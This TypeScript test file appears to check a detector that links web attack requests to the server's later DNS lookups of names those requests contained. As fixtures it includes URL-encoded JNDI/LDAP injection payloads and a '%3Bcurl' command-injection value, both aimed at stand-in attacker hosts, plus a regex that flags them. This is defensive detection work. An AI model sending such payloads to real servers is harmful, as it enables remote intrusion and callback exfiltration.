import assert from 'node:assert/strict';
import { test } from 'node:test';
import { Attempt } from '../../../src/correlate/after/exploits.ts';
import { range } from '../../support/contacts.ts';
import { asked, type AskedSpec } from './asked.ts';

const ATTACKER = '203.0.113.9';
const SERVER = '192.0.2.10';

const judges = (bytes: Uint8Array, from: number, to: number): number =>
  /jndi|%3B/.test(String.fromCharCode(...bytes.subarray(from, to))) ? Attempt.exploit : Attempt.none;

/** Hosts that were looked up because an attack named them, and by whom. */
const called = (specs: readonly AskedSpec[]): string[] =>
  asked(specs, judges)
    .after()
    .successes.map(({ source, called: host, weight }) => `${source} ${host} ${weight.why.split(' ')[0]}`);

const attack = (path: string, at = 0): AskedSpec => ({ from: ATTACKER, at, path });
const LOOKUP = attack('/?x=$%7Bjndi:ldap:%2F%2Fb81c.c2.example:1389%2Fa%7D');
const lookup = (dns: string, at: number, from = SERVER): AskedSpec => ({ from, at, dns });
const TOLD = [`${ATTACKER} b81c.c2.example ${SERVER}`];

test('a name that stood in an attack is looked up: it worked', () => {
  assert.deepEqual(called([LOOKUP, lookup('b81c.c2.example', 2)]), TOLD);
  assert.deepEqual(called([LOOKUP, lookup('B81C.c2.example.', 2)]), TOLD);
  assert.deepEqual(
    called([attack('/?x=$%7Bjndi:dns:%2F%2Fb81c.xn--p1ai%7D'), lookup('b81c.xn--p1ai', 2)]),
    TOLD.map((said) => said.replace('c2.example', 'xn--p1ai')),
  );
  // What a command put in front of it.
  assert.deepEqual(called([LOOKUP, lookup('www-data.b81c.c2.example', 2)]), TOLD);
});

test('a server logs its request when it is done: the name was new just before', () => {
  assert.deepEqual(called([lookup('b81c.c2.example', -5), LOOKUP]), TOLD);
  assert.deepEqual(called([lookup('x.b81c.c2.example', -5), LOOKUP]), TOLD);
  assert.deepEqual(called([lookup('b81c.c2.example', -5, ATTACKER), LOOKUP]), []);
});

test('a name that is usual, that comes late, that the attacker asks for himself, or of another host: nothing', () => {
  assert.deepEqual(called([lookup('b81c.c2.example', -500), LOOKUP, lookup('b81c.c2.example', 2)]), []);
  assert.deepEqual(called([LOOKUP, lookup('b81c.c2.example', 900)]), []);
  assert.deepEqual(called([LOOKUP, lookup('b81c.c2.example', 2, ATTACKER)]), []);
  assert.deepEqual(called([LOOKUP, lookup('c2.example', 2), lookup('b81c.c2.example.net', 3)]), []);
});

test('names beneath one of two labels, and names in what is no attack: nothing', () => {
  const short = attack('/?c=%3Bcurl+c2.example');
  assert.deepEqual(called([short, lookup('www.c2.example', 2)]), []);
  assert.equal(called([short, lookup('c2.example', 2)]).length, 1);
  assert.deepEqual(called([attack('/?u=http://b81c.c2.example/'), lookup('b81c.c2.example', 2)]), []);
});

test('names of attacks before, however many, hide none', () => {
  const others = [...range(600)].map((n) => attack(`/?x=$%7Bjndi:ldap:%2F%2Fa${n}.c2.example:1389%2Fa%7D`));
  assert.deepEqual(called([...others, LOOKUP, lookup('b81c.c2.example', 2)]), TOLD);
});
